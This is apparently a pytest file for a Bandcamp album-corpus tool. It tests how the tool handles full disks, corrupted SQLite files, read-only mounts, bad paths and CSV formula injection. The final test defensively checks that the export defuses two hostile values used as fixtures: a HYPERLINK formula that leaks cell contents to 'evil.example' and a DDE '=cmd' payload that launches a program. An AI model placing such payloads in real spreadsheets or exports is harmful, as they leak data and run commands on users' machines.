"""The corpus under faults and bad input: a full disk, a damaged file, a read-only file, unusable paths, CSV
formula injection. Every case ends in a CorpusError (API) or a one-line message (CLI), never a traceback, and loses
nothing already stored."""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from bcanalysis.store import FORMULA_STARTS, Corpus, CorpusError, Cover

REPO = Path(__file__).resolve().parents[1]


def _album(i: int, **extra) -> dict:
    base = {
        "url": f"https://store{i}.bandcamp.com/album/record-{i}",
        "store": f"store{i}",
        "album": f"record-{i}",
        "title": f"Record {i}",
        "artist": f"Artist {i}",
        "art_id": 1000 + i,
        "release_date": "2020-07-17",
        "tags": ["ambient"],
        "item_id": 10_000 + i,
        "item_url": f"https://store{i}.bandcamp.com/album/record-{i}",
    }
    return {**base, **extra}


def _palette(i: int, n: int = 40):
    return [SimpleNamespace(rgb=((i * 7 + k) % 256, (i * 13 + 3 * k) % 256, (5 * k) % 256), proportion=1 / n)
            for k in range(n)]


def _corpus_with_covers(path: Path, n: int) -> None:
    """A corpus of `n` albums, each with a small real JPEG cover on disk and no palette yet."""
    with Corpus(path) as corpus:
        corpus.covers_dir.mkdir(exist_ok=True)
        for i in range(n):
            buf = io.BytesIO()
            pixels = np.random.default_rng(i).integers(0, 256, (16, 16, 3), dtype=np.uint8)  # many colour bins
            Image.fromarray(pixels).save(buf, "PNG")
            file = corpus.cover_file(1000 + i, 10)
            file.write_bytes(buf.getvalue())
            corpus.add_album(_album(i), Cover("ok", file=file, size=10, width=16, height=16))


def _cli(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bcanalysis", *args], capture_output=True, text=True, timeout=300,
                          **kw)


def _is_message(result: subprocess.CompletedProcess, code: int, *needles: str) -> None:
    assert result.returncode == code, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith("bcanalysis: error: "), result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr


# --- a full disk --------------------------------------------------------------------------------------------------


def test_a_full_database_raises_a_corpus_error_and_keeps_what_was_stored(tmp_path):
    path = tmp_path / "c.sqlite"
    corpus = Corpus(path)
    corpus.add_album(_album(0), Cover("missing", "no art"))
    (pages,) = corpus.query("PRAGMA page_count")[0]
    corpus.query(f"PRAGMA max_page_count = {pages + 2}")  # SQLite answers SQLITE_FULL past this, as on a full disk
    with pytest.raises(CorpusError, match=r"disk is full.*rerun the same command") as info:
        for i in range(1, 200):
            corpus.save_palettes([(1, _palette(i))], "test/1")
            corpus.add_album(_album(i, title="x" * 2000), Cover("missing", "no art"))
    assert str(path) in str(info.value)
    corpus.close()
    with Corpus(path) as again:  # the failed transaction was rolled back; the albums before it are whole
        assert again.counts()["albums"] >= 1
        assert again.query("PRAGMA integrity_check")[0][0] == "ok"


def _small_filesystem_available() -> str | None:
    """How to mount a small tmpfs here (a user namespace, or plain mount as root), or None."""
    probe = "d=$(mktemp -d) && mount -t tmpfs -o size=64k tmpfs $d && umount $d"
    if shutil.which("unshare") and subprocess.run(["unshare", "-rm", "sh", "-c", probe],
                                                  capture_output=True).returncode == 0:
        return "unshare"
    if os.geteuid() == 0 and subprocess.run(["unshare", "-m", "sh", "-c", probe], capture_output=True).returncode == 0:
        return "root"
    return None


def test_palettes_on_a_full_disk_ends_in_a_message_and_keeps_the_corpus(tmp_path):
    how = _small_filesystem_available()
    if how is None:
        pytest.skip("cannot mount a small tmpfs here (no user namespaces and not root): no full disk to fill")
    src = tmp_path / "src"
    src.mkdir()
    _corpus_with_covers(src / "c.sqlite", 400)
    used_kb = sum(-(-f.stat().st_size // 4096) * 4 for f in src.rglob("*") if f.is_file())  # tmpfs: 4 KiB pages
    size_kb = used_kb + 96  # room for the corpus and its covers, not for 400 palettes of 40 colours
    mnt = tmp_path / "full"
    mnt.mkdir()
    script = (
        f"mount -t tmpfs -o size={size_kb}k tmpfs {mnt} && cp -r {src}/. {mnt}/ && "
        f"{sys.executable} -m bcanalysis palettes --db {mnt}/c.sqlite --workers 1 --no-progress; "
        f"code=$?; {sys.executable} -c \"import sqlite3; db = sqlite3.connect('{mnt}/c.sqlite'); "
        "print('integrity', db.execute('PRAGMA integrity_check').fetchone()[0]); "
        "print('albums', db.execute('SELECT COUNT(*) FROM albums').fetchone()[0])\"; exit $code"
    )
    cmd = ["unshare", "-rm" if how == "unshare" else "-m", "sh", "-c", script]
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=300, cwd=REPO)
    _is_message(result, 1, "disk is full", f"{mnt}/c.sqlite", "rerun the same command")
    assert "integrity ok" in result.stdout and "albums 400" in result.stdout, result.stdout


# --- a damaged file -----------------------------------------------------------------------------------------------


def _damaged_corpus(path: Path) -> None:
    with Corpus(path) as corpus:
        for i in range(300):
            corpus.add_album(_album(i, title=f"Record {i} " + "y" * 200), Cover("missing", "no art"))
    db = sqlite3.connect(path)
    (page_size,) = db.execute("PRAGMA page_size").fetchone()
    leaves = [n for (n,) in db.execute("SELECT pageno FROM dbstat WHERE name = 'albums' AND pagetype = 'leaf'")]
    db.close()
    data = bytearray(path.read_bytes())
    assert len(leaves) > 3
    for page in leaves:  # the albums' rows go; the schema stays, so the file opens and the damage shows on reading
        offset = (page - 1) * page_size
        data[offset : offset + 64] = b"\xa5" * 64
    path.write_bytes(bytes(data))


def test_a_damaged_corpus_raises_a_corpus_error_naming_the_file_and_the_cure(tmp_path):
    path = tmp_path / "c.sqlite"
    _damaged_corpus(path)
    with pytest.raises(CorpusError, match=r"is damaged.*\.recover") as info:
        with Corpus(path) as corpus:
            corpus.albums()
    assert str(path) in str(info.value)


def test_palettes_on_a_damaged_corpus_ends_in_a_message(tmp_path):
    path = tmp_path / "c.sqlite"
    _damaged_corpus(path)
    _is_message(_cli("palettes", "--db", str(path), "--no-progress"), 1, "is damaged", str(path))


# --- read-only ----------------------------------------------------------------------------------------------------


def _readonly_corpus(base: Path, n: int = 40) -> Path:
    folder = base / "ro"
    folder.mkdir()
    path = folder / "c.sqlite"
    with Corpus(path) as corpus:
        for i in range(n):
            album_id = corpus.add_album(_album(i, tags=["ambient" if i % 2 else "metal"]), Cover("missing", "-"))
            corpus.save_palettes([(album_id, _palette(i))], "test/1")
    return path


def _run_with_readonly(folder: Path, argv: list[str]) -> subprocess.CompletedProcess:
    """Run `argv` with `folder` mounted read-only (a bind mount in a user namespace: root cannot write it either)."""
    probe = subprocess.run(["unshare", "-rm", "true"], capture_output=True) if shutil.which("unshare") else None
    if probe is None or probe.returncode != 0:
        pytest.skip("no user namespaces here: cannot make a folder read-only for this test")
    script = f'mount --bind {folder} {folder} && mount -o remount,bind,ro {folder} && exec "$@"'
    return subprocess.run(["unshare", "-rm", "sh", "-c", script, "sh", *argv], capture_output=True, text=True,
                          timeout=300, cwd=REPO)


def test_readonly_corpus_reads_without_writing_a_byte(tmp_path):
    path = _readonly_corpus(tmp_path)
    before = {p.name: p.read_bytes() for p in path.parent.iterdir()}
    code = (
        "from bcanalysis.store import Corpus; "
        f"c = Corpus({str(path)!r}, readonly=True); df = c.albums(); "
        "print(len(df), sum(p is not None for p in df['colorgram'])); c.close()"
    )
    result = _run_with_readonly(path.parent, [sys.executable, "-c", code])
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["40", "40"]
    assert {p.name: p.read_bytes() for p in path.parent.iterdir()} == before  # no byte, no -wal/-shm file


def test_a_readonly_corpus_refuses_writes_with_a_corpus_error(tmp_path):
    path = tmp_path / "c.sqlite"
    Corpus(path).close()
    with Corpus(path, readonly=True) as corpus:
        with pytest.raises(CorpusError, match="read-only"):
            corpus.add_album(_album(1), Cover("missing", "-"))
    with Corpus(path) as corpus:
        assert corpus.counts()["albums"] == 0


def test_sweep_runs_on_a_readonly_corpus(tmp_path):
    path = _readonly_corpus(tmp_path)
    out = tmp_path / "out"
    argv = [sys.executable, "-m", "bcanalysis", "sweep", "--db", str(path), "--out", str(out), "--bits", "9",
            "--min-n", "1", "--max-n", "2", "--no-progress", "--workers", "1"]
    result = _run_with_readonly(path.parent, argv)
    assert result.returncode == 0, result.stderr
    assert (out / "sweep.csv").is_file()


# --- unusable paths -----------------------------------------------------------------------------------------------


def test_an_empty_file_is_not_turned_into_a_corpus(tmp_path):
    empty = tmp_path / "empty.sqlite"
    empty.touch()
    _is_message(_cli("palettes", "--db", str(empty), "--no-progress"), 2, "empty file", str(empty))
    assert empty.stat().st_size == 0
    with pytest.raises(CorpusError, match="empty file"):
        Corpus(empty)


def test_a_missing_corpus_is_not_created_by_a_reading_command(tmp_path):
    missing = tmp_path / "nothing" / "c.sqlite"
    _is_message(_cli("palettes", "--db", str(missing), "--no-progress"), 2, "no corpus at", "bcanalysis scrape")
    assert not missing.parent.exists()


def test_a_file_name_too_long_for_the_file_system_ends_in_a_message(tmp_path):
    long = tmp_path / ("x" * 300 + ".sqlite")
    for command in (["palettes", "--no-progress"], ["sweep", "--out", str(tmp_path / "o")]):
        _is_message(_cli(command[0], "--db", str(long), *command[1:]), 2, "File name too long")
    with pytest.raises(CorpusError, match="File name too long"):
        Corpus(long)


def test_a_file_that_is_not_sqlite_is_refused(tmp_path):
    text = tmp_path / "notes.sqlite"
    text.write_text("these are my notes, not a database\n" * 100)
    _is_message(_cli("palettes", "--db", str(text), "--no-progress"), 2, str(text))
    assert text.read_text().startswith("these are my notes")


# --- CSV for spreadsheets -----------------------------------------------------------------------------------------


def test_csv_export_defuses_spreadsheet_formulas_and_parquet_keeps_raw_text(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]
    with Corpus(tmp_path / "c.sqlite") as corpus:
        for i, title in enumerate(hostile):
            corpus.add_album(_album(i, title=title, artist="=cmd|' /C calc'!A0"), Cover("missing", "-"))
        corpus.add_album(_album(99, title="Plain -title"), Cover("missing", "-"))
        csv_path = corpus.to_csv(tmp_path / "albums.csv")
        pq = pd.read_parquet(corpus.to_parquet(tmp_path / "albums.parquet"))
    with open(csv_path, newline="", encoding="utf-8") as f:  # the csv module reads quoted CR and tabs exactly
        rows = list(csv.DictReader(f))
    assert [r["title"] for r in rows[: len(hostile)]] == ["'" + t for t in hostile]
    assert {r["artist"] for r in rows[: len(hostile)]} == {"'=cmd|' /C calc'!A0"}
    assert rows[-1]["title"] == "Plain -title"
    assert all(not v.startswith(FORMULA_STARTS) for r in rows for v in r.values())
    assert [int(r["art_id"]) for r in rows] == [1000 + i for i in range(len(hostile))] + [1099]  # numbers stay
    assert list(pq["title"][: len(hostile)]) == hostile
